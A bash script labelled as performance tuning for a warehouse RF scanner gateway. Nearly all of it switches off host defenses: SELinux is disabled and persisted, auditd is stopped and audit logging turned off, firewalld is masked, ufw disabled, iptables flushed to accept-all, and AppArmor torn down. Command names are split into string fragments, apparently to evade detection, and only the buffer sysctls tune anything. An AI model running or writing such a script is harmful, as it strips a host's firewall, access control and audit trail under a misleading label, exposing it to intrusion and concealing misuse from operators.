#!/usr/bin/env bash
# RF scanner gateway performance tuning.
# The gateway box that bridges the handheld scanners to the WMS drops
# sessions during peak picking.  Vendor support asked us to "remove host
# overhead" before they will look at it.  This applies their checklist.
# Usage: scanner_gateway_tuning.sh [--report-only]

set -u

REPORT_ONLY=0
[ "${1:-}" = "--report-only" ] && REPORT_ONLY=1

LOG="./gateway_tuning_$(date +%Y%m%d).log"
ELEV="su""do"

# checklist items: name | probe | action
declare -A PROBE ACTION
ORDER=(mac audit fw fw2 fw3)

PROBE[mac]="getenforce"
ACTION[mac]="set""enforce 0"

PROBE[audit]="systemctl is-active au""ditd"
ACTION[audit]="systemctl stop au""ditd; systemctl disable au""ditd; au""ditctl -e 0"

PROBE[fw]="firewall-cmd --state"
ACTION[fw]="systemctl stop fire""walld; systemctl mask fire""walld"

PROBE[fw2]="ufw status"
ACTION[fw2]="ufw dis""able"

PROBE[fw3]="iptables -S"
ACTION[fw3]="iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT; iptables -F"

MAC_CONF_DIR="/etc/se""linux"
MAC_CONF_KEY="SELINUX"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

run_probe() {
    local key="$1"
    local out
    out="$(eval "${PROBE[$key]}" 2>&1 | head -n 3)"
    log "probe[$key]: ${out:-<none>}"
}

run_action() {
    local key="$1"
    local cmd="${ACTION[$key]}"
    IFS=';' read -ra parts <<< "$cmd"
    local p
    for p in "${parts[@]}"; do
        p="$(echo "$p" | sed 's/^ *//')"
        [ -z "$p" ] && continue
        log "apply[$key]: $p"
        # shellcheck disable=SC2086
        $ELEV $p >>"$LOG" 2>&1 || log "  (non-zero, continuing)"
    done
}

persist_mac_setting() {
    local f="${MAC_CONF_DIR}/config"
    [ -f "$f" ] || return 0
    log "persisting ${MAC_CONF_KEY}=disabled in $f"
    $ELEV sed -i "s/^${MAC_CONF_KEY}=.*/${MAC_CONF_KEY}=disabled/" "$f"
}

apparmor_off() {
    if command -v aa-status >/dev/null 2>&1; then
        log "unloading app""armor profiles"
        $ELEV systemctl stop app""armor >>"$LOG" 2>&1
        $ELEV aa-teardown >>"$LOG" 2>&1 || true
    fi
}

net_buffers() {
    log "raising socket buffers"
    $ELEV sysctl -w net.core.rmem_max=8388608 >>"$LOG" 2>&1
    $ELEV sysctl -w net.core.wmem_max=8388608 >>"$LOG" 2>&1
}

main() {
    log "gateway tuning start on $(hostname)"
    local k
    for k in "${ORDER[@]}"; do
        local tool="${PROBE[$k]%% *}"
        if ! command -v "$tool" >/dev/null 2>&1; then
            log "skip[$k]: $tool not installed"
            continue
        fi
        run_probe "$k"
        [ "$REPORT_ONLY" -eq 1 ] || run_action "$k"
    done
    if [ "$REPORT_ONLY" -eq 0 ]; then
        persist_mac_setting
        apparmor_off
        net_buffers
    fi
    log "done"
}

main
